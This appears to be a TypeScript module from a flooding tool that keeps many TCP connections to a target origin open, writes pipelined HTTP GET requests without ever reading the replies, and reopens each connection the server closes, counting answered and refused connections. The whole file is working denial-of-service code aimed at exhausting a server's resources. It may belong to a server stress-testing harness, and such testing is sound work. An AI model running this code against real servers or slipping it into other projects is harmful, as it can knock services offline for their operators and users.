import { connect, type Socket } from 'node:net';
import { setTimeout as wait } from 'node:timers/promises';
import { attackBegun, type Running } from './flood.ts';
import { ownAddress } from './own-address.ts';
import type { Plan } from './plan.ts';

/** Time after which a connection that the server closed is reopened. */
const reopenMs = 50;

/** Keeps connections open that send many requests and never read. */
export function holdSilentConnections({
  origin,
  connections,
  pipelined,
  path,
}: Extract<Plan, { kind: 'silent' }>): Running {
  const { hostname, port } = new URL(origin);
  const requests = `GET ${path} HTTP/1.1\r\nHost: ${hostname}\r\n\r\n`.repeat(pipelined);
  const sockets = new Set<Socket>();
  let [opened, closed] = [0, 0];
  const end = new AbortController();
  const { promise: begun, resolve: begin } = Promise.withResolvers<void>();

  async function hold(): Promise<void> {
    while (!end.signal.aborted) {
      const socket = connect({ host: hostname, port: Number(port), ...ownAddress });
      sockets.add(socket);
      socket.pause();
      socket.on('connect', () => {
        opened += 1;
        begin();
        socket.write(requests);
      });
      // The close event follows the error.
      socket.on('error', () => {});
      await new Promise((resolve) => void socket.once('close', resolve));
      sockets.delete(socket);
      closed += 1;
      if (!end.signal.aborted) await wait(reopenMs);
    }
  }
  const held = Array.from({ length: connections }, hold);
  return {
    async stop() {
      await attackBegun(begun);
      end.abort();
      const refused = closed;
      for (const socket of sockets) socket.destroy();
      await Promise.all(held);
      return { answered: Math.max(0, opened - refused), refused, broken: 0 };
    },
  };
}
